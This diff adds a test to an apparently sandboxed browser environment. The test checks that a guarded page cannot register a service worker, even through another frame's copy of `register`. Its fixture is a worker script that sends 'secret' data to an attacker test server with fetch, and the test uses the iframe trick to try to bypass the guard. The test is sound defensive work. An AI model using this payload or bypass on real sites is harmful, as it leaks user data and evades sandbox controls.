@@ -393,3 +393,27 @@ async def test_the_proxy_stops_with_its_context(session, task_and_attacker):
     while threading.active_count() > threads_before and time.monotonic() < deadline:
         await asyncio.sleep(0.05)  # a proxy connection's thread ends once the context's sockets close
     assert threading.active_count() <= threads_before
+
+
+async def test_a_service_worker_reaches_nothing(session, task_and_attacker):
+    """A service worker would outlive the page and answer its requests: a guarded context registers
+    none, even through another frame's copy of `register`; and one that ran would still go through the proxy."""
+    _, attacker = task_and_attacker
+    worker = (f"fetch('{attacker.url}/from-worker?data=secret').catch(() => 0);"
+              f"self.oninstall = e => e.waitUntil(fetch('{attacker.url}/installed').catch(() => 0));").encode()
+    site = PageServer({"/": "<title>Home</title>"}, echoes={"/sw.js": lambda _: ("text/javascript", worker)})
+    try:
+        env = BrowserEnv(session)
+        await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))
+        registered = await session.page.evaluate("""async () => {
+            const frame = document.body.appendChild(document.createElement('iframe'));
+            const register = frame.contentWindow.ServiceWorkerContainer.prototype.register;
+            const registration = await register.call(navigator.serviceWorker, '/sw.js').catch(() => null);
+            const worker = registration && (registration.installing || registration.waiting || registration.active);
+            if (worker && worker.state !== 'activated')
+                await new Promise(done => worker.onstatechange = () => worker.state === 'activated' && done());
+            return Boolean(worker);
+        }""")
+        assert registered is False and attacker.hits == []
+    finally:
+        site.close()
